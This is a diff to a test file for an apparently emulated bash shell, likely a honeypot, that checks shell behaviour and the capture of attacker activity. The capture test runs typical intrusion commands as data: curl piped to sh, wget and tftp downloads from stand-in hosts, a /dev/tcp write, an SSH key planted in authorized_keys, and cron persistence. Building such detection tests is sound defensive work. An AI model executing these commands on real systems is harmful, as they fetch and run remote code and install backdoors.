@@ -31,6 +31,8 @@ test("lists, pipes, redirections, substitutions and quotes behave as in bash", (
   expect(sh.run("if [ -f /nope ]; then echo yes; else echo no; fi")).toBe("no\n");
   expect(sh.run('echo "unterminated')).toContain("unexpected EOF");
   expect(sh.run("cd /tmp && pwd; cd; pwd")).toBe("/tmp\n/root\n");
+  expect(sh.run("{ echo a; echo b; } > /tmp/ab; (cat /tmp/ab; echo c) | wc -l")).toBe("3\n");
+  expect(sh.run("(echo x")).toBe("-bash: syntax error: unexpected end of file\n");
 });
 
 test("the file tree: writes stay in the session, pseudo file systems refuse, rm of a missing file errors", () => {
@@ -49,13 +51,14 @@ test("capture: URLs and hosts of downloaders, /dev/tcp, authorized_keys and cron
   sh.run("cd /tmp; wget http://203.0.113.50/bins/x.sh -O x; curl -s https://evil.example/a | sh; tftp -g -r m.arm 198.51.100.7; ftpget 198.51.100.8 b b");
   sh.run("echo hi > /dev/tcp/192.0.2.9/4444; busybox wget http://192.0.2.10/y");
   sh.run("echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGtQ0qQ0S0H3b8m7CgYqz0s1wq8m2v3x4y5z6a7b8c9d k@x' >> ~/.ssh/authorized_keys");
-  sh.run("(crontab -l; echo '*/5 * * * * /tmp/x') | crontab -");
+  sh.run("(crontab -l 2>/dev/null; echo '*/5 * * * * /tmp/x') | crontab -");
   sh.run("echo '* * * * * root /tmp/x' > /etc/cron.d/x");
   sh.run("echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > /tmp/.d; echo -ne '\\x02' >> /tmp/.d; printf '\\101\\102' > /tmp/p");
   const c = sh.capture;
   expect(c.urls).toEqual(expect.arrayContaining(["http://203.0.113.50/bins/x.sh", "https://evil.example/a", "tftp://198.51.100.7/m.arm", "ftp://198.51.100.8/b", "http://192.0.2.10/y"]));
   expect(c.hosts).toEqual(expect.arrayContaining(["203.0.113.50", "evil.example", "198.51.100.7", "198.51.100.8", "192.0.2.9", "192.0.2.10"]));
   expect(c.persistence.map((p) => p.kind)).toEqual(expect.arrayContaining(["authorized_key", "crontab"]));
+  expect(c.persistence).toContainEqual({ kind: "crontab", path: "/var/spool/cron/crontabs/root", detail: "*/5 * * * * /tmp/x" });
   expect(c.persistence.find((p) => p.kind === "authorized_key")?.key_fingerprint).toMatch(/^SHA256:[A-Za-z0-9+/]{43}$/);
   expect(sh.fs.read("/tmp/.d")).toBe("\x7fELF\x01\x02");
   expect(sh.fs.read("/tmp/p")).toBe("AB");
